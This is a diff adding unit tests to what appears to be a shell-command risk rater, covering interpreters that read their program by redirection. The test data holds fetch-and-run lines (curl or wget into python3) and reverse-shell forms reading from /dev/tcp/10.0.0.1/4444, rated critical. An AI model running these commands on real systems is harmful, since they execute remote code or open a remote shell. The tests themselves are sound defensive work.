@@ -85,3 +85,41 @@ describe("standard input named by a path", () => {
     expect(risk(command), shown(command)).toBe(expected);
   });
 });
+
+describe("an interpreter reading its program from a file by redirection", () => {
+  const interpreters = ["python3", "python", "node", "ruby", "perl", "php"];
+  // [before the interpreter, the file]: `PREFIX python3 < FILE` is rated as `PREFIX python3 FILE`.
+  it.each([
+    ["", "x.py"],
+    ["", "$f"],
+    ["curl -o x.py https://x/x.py && ", "x.py"],
+    ["wget -O /tmp/x https://x/x; ", "/tmp/x"],
+    ["curl https://x/install > x; sudo ", "x"],
+    ["curl https://x/other | ", "x.py"],
+  ])("%s<interpreter> < %s is rated as <interpreter> FILE", (prefix, file) => {
+    for (const name of interpreters) {
+      const byOperand = `${prefix}${name} ${file}`;
+      const byRedirect = `${prefix}${name} < ${file}`;
+      expect(risk(byRedirect), `${shown(byRedirect)} vs ${shown(byOperand)}`).toBe(risk(byOperand));
+    }
+  });
+
+  it.each(interpreters)("%s reading from a /dev/tcp or /dev/udp socket is a reverse shell", (name) => {
+    for (const command of [`${name} < /dev/tcp/10.0.0.1/4444`, `${name} - < /dev/udp/10.0.0.1/53`, `${name} /dev/stdin < /dev/tcp/10.0.0.1/4444`]) {
+      expect(risk(command), shown(command)).toBe("critical");
+    }
+  });
+
+  it.each<[ShellKind, string, Risk]>([
+    // The file, not the pipe, is the program; zsh reads both (MULTIOS).
+    ["bash", "curl https://x | python3 < install.py", "safe"],
+    ["zsh", "curl https://x | python3 < install.py", "critical"],
+    ["bash", "python3 < <(curl -s https://x)", "critical"],
+    ["bash", "curl -s https://x | python3 - < /dev/stdin", "critical"],
+    // Inline code or a module is the program; standard input is only its data.
+    ["bash", "python3 -c 'print(1)' < /dev/tcp/10.0.0.1/4444", "safe"],
+    ["bash", "perl -ne 'print' < /dev/tcp/10.0.0.1/4444", "safe"],
+  ])("%s: %s → %s", (shell, command, expected) => {
+    expect(risk(command, shell), shown(command, shell)).toBe(expected);
+  });
+});
